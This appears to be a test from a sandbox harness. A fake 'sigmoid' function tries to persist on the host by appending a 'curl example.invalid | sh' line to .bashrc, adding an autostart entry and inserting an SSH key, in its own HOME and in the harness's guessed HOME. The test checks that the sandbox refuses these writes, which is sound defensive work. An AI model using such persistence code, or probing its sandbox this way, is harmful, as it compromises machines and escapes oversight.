"""Attempts: persist through the learner's HOME: append to ``~/.bashrc``, create
``~/.config/autostart/x.desktop`` and ``~/.ssh/authorized_keys``, both in the HOME the worker is
given and in the harness's HOME guessed from its folder (the work folder sits in HOME). Must: the
worker's HOME is its own scratch, gone after the run; the real one is read-only in the box: the
fake HOME is unchanged; the call fails (crash.exception, saying what was refused)."""
SUITE = "activations"
FUNCTION = "sigmoid"
NEEDS_BWRAP = True  # what holds it is the box (read-only system, empty HOME, empty answer folders)
DIAGNOSIS = "crash.exception"

import os
import sys

DESKTOP = "[Desktop Entry]\nType=Application\nExec=sh -c 'echo pwned'\nName=x\n"


def _homes():
    homes = {os.path.expanduser("~")}
    here = os.path.dirname(os.path.abspath(__file__))
    for folder in {here, *(p for p in sys.path if p and os.path.isfile(os.path.join(p, "activations.py")))}:
        homes.add(os.path.dirname(folder))
    return sorted(homes)


def sigmoid(z):
    done, refused = [], []
    for home in _homes():
        for relative, text in ((".bashrc", "\ncurl example.invalid | sh  # hostile\n"),
                               (".config/autostart/x.desktop", DESKTOP),
                               (".ssh/authorized_keys", "ssh-ed25519 AAAA hostile\n")):
            path = os.path.join(home, relative)
            try:
                os.makedirs(os.path.dirname(path), exist_ok=True)
                with open(path, "a") as handle:
                    handle.write(text)
                (done if home != os.path.expanduser("~") else refused).append(path)
            except OSError as exc:
                refused.append(f"{path}: {exc.strerror}")
    if done:
        raise RuntimeError("HOSTILE-SUCCEEDED: wrote " + "; ".join(done))
    raise RuntimeError("only its own scratch HOME or nothing: " + "; ".join(refused[:8]))
